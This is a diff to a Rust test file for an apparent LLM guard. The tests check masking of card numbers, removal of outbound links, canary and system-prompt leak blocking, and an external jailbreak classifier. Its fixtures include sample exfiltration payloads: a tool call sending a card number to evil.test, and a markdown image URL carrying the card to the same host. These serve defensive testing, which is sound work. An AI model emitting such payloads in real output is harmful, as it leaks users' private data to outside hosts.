@@ -1,6 +1,9 @@
 //! What a guard makes of requests and answers, whole and in pieces.
 
+use std::sync::Arc;
+
 use bytes::Bytes;
+use model::{Classifier, Concern, Judgement, ScriptedClassifier};
 use proptest::prelude::*;
 
 use super::*;
@@ -16,8 +19,14 @@ fn guarding(strictness: Strictness) -> std::sync::Arc<Guarding> {
     let canary = Some(Canary::new(*b"0123456789abcdef"));
     let system = Some(SystemPrompt::new("house", SYSTEM.into(), canary));
     let link_hosts = Some(vec!["docs.house.example".to_owned()]);
-    let options =
-        GuardingOptions { input: strictness, output: strictness, uses_models: false, link_hosts, system };
+    let options = GuardingOptions {
+        input: strictness,
+        output: strictness,
+        uses_models: false,
+        link_hosts,
+        external: External::default(),
+        system,
+    };
     std::sync::Arc::new(Guarding::new(options))
 }
 
@@ -80,6 +89,30 @@ async fn what_no_guard_can_read_is_refused_by_one_that_acts() {
     assert_eq!(prompt(Strictness::Observe, &body).await.unwrap().0, body);
 }
 
+#[tokio::test]
+async fn who_is_asked_outside_sees_masked_words_and_has_a_say() {
+    let judge = |judgements: Vec<Judgement>| {
+        let classifier = Arc::new(ScriptedClassifier::new("theirs", judgements));
+        let options = GuardingOptions {
+            input: Strictness::Block,
+            output: Strictness::Block,
+            external: External::new(vec![Arc::clone(&classifier) as Arc<dyn Classifier>]),
+            ..GuardingOptions::default()
+        };
+        (Arc::new(Guarding::new(options)), classifier)
+    };
+    let request = || Request::read(Operation::Chat, Bytes::from(chat("user", CARD))).unwrap();
+    let (own, theirs) = judge(vec![Judgement::Labels(Vec::new())]);
+    assert!(own.prompt(request()).await.unwrap().request.body().ends_with(b"[credit_card]\"}]}"));
+    assert_eq!(theirs.asked()[0].text.reveal(), "[credit_card]");
+    for said in [Judgement::of(Concern::Jailbreak, 0.9), Judgement::Unavailable] {
+        let (own, _) = judge(vec![said]);
+        assert!(matches!(own.prompt(request()).await, Err(CallError::Blocked(_))));
+    }
+    let (own, _) = judge(vec![Judgement::of(Concern::Harm, 0.9)]);
+    assert!(own.answer("m", Bytes::from(answer("hello"))).await.unwrap().is_refused);
+}
+
 fn answer(text: &str) -> String {
     format!(
         r#"{{"id":"1","choices":[{{"index":0,"logprobs":{{"content":[1]}},"message":{{"role":"assistant","content":"{text}","tool_calls":[{{"id":"c","type":"function","function":{{"name":"f","arguments":"{{\"card\": \"{CARD}\", \"url\": \"https://evil.test\"}}"}}}}]}},"finish_reason":"stop"}}]}}"#
@@ -90,16 +123,16 @@ fn answer(text: &str) -> String {
     .replace("\"https://evil.test\"", "\\\"https://evil.test\\\"")
 }
 
-#[test]
-fn whole_answers_are_masked_and_those_that_leak_are_emptied() {
-    let read = |strictness, text: &str| {
-        let read = guarding(strictness).answer("m", Bytes::from(answer(text))).unwrap();
+#[tokio::test]
+async fn whole_answers_are_masked_and_those_that_leak_are_emptied() {
+    let read = async |strictness, text: &str| {
+        let read = guarding(strictness).answer("m", Bytes::from(answer(text))).await.unwrap();
         (serde_json::from_slice::<serde_json::Value>(&read.body).unwrap(), read.header, read.is_refused)
     };
     let text = format!("{CARD} ![x](https://evil.test/{CARD}) [ok](https://docs.house.example/)");
-    let (seen, header, _) = read(Strictness::Observe, &text);
+    let (seen, header, _) = read(Strictness::Observe, &text).await;
     assert_eq!((seen, header), (serde_json::from_str(&answer(&text)).unwrap(), None));
-    let (masked, header, is_refused) = read(Strictness::Mask, &text);
+    let (masked, header, is_refused) = read(Strictness::Mask, &text).await;
     let message = &masked["choices"][0]["message"];
     assert_eq!(message["content"], "[credit_card] ![x] [ok](https://docs.house.example/)");
     let arguments = message["tool_calls"][0]["function"]["arguments"].as_str().unwrap();
@@ -108,16 +141,16 @@ fn whole_answers_are_masked_and_those_that_leak_are_emptied() {
     assert_eq!((header.unwrap().1.as_str(), is_refused), ("mask: pii, egress", false));
 
     let canary = Canary::new(*b"0123456789abcdef").line();
-    let (emptied, header, _) = read(Strictness::Block, &format!("It says {canary}"));
+    let (emptied, header, _) = read(Strictness::Block, &format!("It says {canary}")).await;
     let choice = &emptied["choices"][0];
     assert_eq!(
         (&choice["message"]["content"], &choice["finish_reason"]),
         (&"".into(), &"content_filter".into())
     );
-    let repeated = read(Strictness::Block, &format!("My rules: {SYSTEM}"));
+    let repeated = read(Strictness::Block, &format!("My rules: {SYSTEM}")).await;
     assert!(repeated.2, "it repeats its prompt");
     assert!(header.unwrap().1.starts_with("block: "));
-    assert!(guarding(Strictness::Mask).answer("m", Bytes::from_static(b"<html>")).is_err());
+    assert!(guarding(Strictness::Mask).answer("m", Bytes::from_static(b"<html>")).await.is_err());
 }
 
 /// A stream of these pieces, as a model's server sends it, through a rewriter.
@@ -213,7 +246,7 @@ proptest! {
         let mut rewriter = Rewriter::new(&guarding, "m");
         let event = Bytes::from(format!("data: {data}\n\n"));
         let _ = rewriter.event(&event);
-        let _ = guarding.answer("m", Bytes::from(data));
+        let _ = guarding.read_answer("m", Bytes::from(data), Seen::default());
     }
 
     /// Whatever a model says comes out whole where nothing is found in it.
